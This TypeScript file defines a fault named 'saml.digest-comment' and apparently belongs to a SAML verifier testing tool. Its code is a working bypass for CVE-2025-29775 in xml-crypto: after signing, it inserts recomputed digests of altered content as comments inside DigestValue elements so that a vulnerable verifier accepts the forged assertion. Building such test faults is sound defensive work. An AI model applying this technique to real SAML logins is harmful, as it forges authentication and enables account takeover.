import { createHash } from 'node:crypto';
import type { Element } from '@xmldom/xmldom';
import { z } from 'zod';
import { childElement, descendants } from '../../../../lib/xml.ts';
import { digestAlgorithms } from '../../../saml/algorithms.ts';
import { ns } from '../../../saml/constants.ts';
import { exclusiveCanonical } from '../../../saml/exclusive-c14n.ts';
import { defineSamlFault } from '../../define.ts';
import { editSignedXml } from '../edit-xml.ts';

const hashByUri = new Map<string, string>(
  Object.entries(digestAlgorithms).map(([name, { uri }]) => [uri, name]),
);

/**
 * CVE-2025-29775 (xml-crypto < 6.0.1): the digest of each reference is computed again over
 * the element as it is now (after the faults before this one changed it) and written as a
 * comment at the start of its DigestValue. Canonicalization drops the comment, so SignedInfo
 * and its signature stay valid; a verifier that takes DigestValue's first child as the digest
 * compares against the comment and accepts the changed element.
 */
export default defineSamlFault({
  name: 'saml.digest-comment',
  stage: 'post-sign',
  summary:
    'Puts the digest of the changed content in a comment at the start of each DigestValue (signature stays valid)',
  params: z.object({}),
  apply: (xml) =>
    editSignedXml(xml, (doc) => {
      // Innermost first: an assertion's DigestValue is inside the Response's signed content.
      const signatures = descendants(doc, 'Signature')
        .filter((s) => s.namespaceURI === ns.dsig)
        .reverse();
      if (signatures.length === 0) throw new Error('saml.digest-comment: the response carries no signature');
      for (const signature of signatures) {
        const signedInfo = childElement(signature, 'SignedInfo')!;
        for (const reference of descendants(signedInfo, 'Reference')) {
          const id = (reference.getAttribute('URI') ?? '').replace(/^#/, '');
          const target = Array.from(doc.getElementsByTagName('*')).find((e) => e.getAttribute('ID') === id);
          if (!target)
            throw new Error(`saml.digest-comment: no element has the ID "${id}" its reference names`);
          const method = childElement(reference, 'DigestMethod')?.getAttribute('Algorithm') ?? '';
          const hash = hashByUri.get(method);
          if (!hash) throw new Error(`saml.digest-comment: unknown DigestMethod ${method}`);
          const digest = createHash(hash).update(exclusiveCanonical(target, signature)).digest('base64');
          const value = childElement(reference, 'DigestValue') as Element;
          value.insertBefore(doc.createComment(digest), value.firstChild);
        }
      }
    }),
});
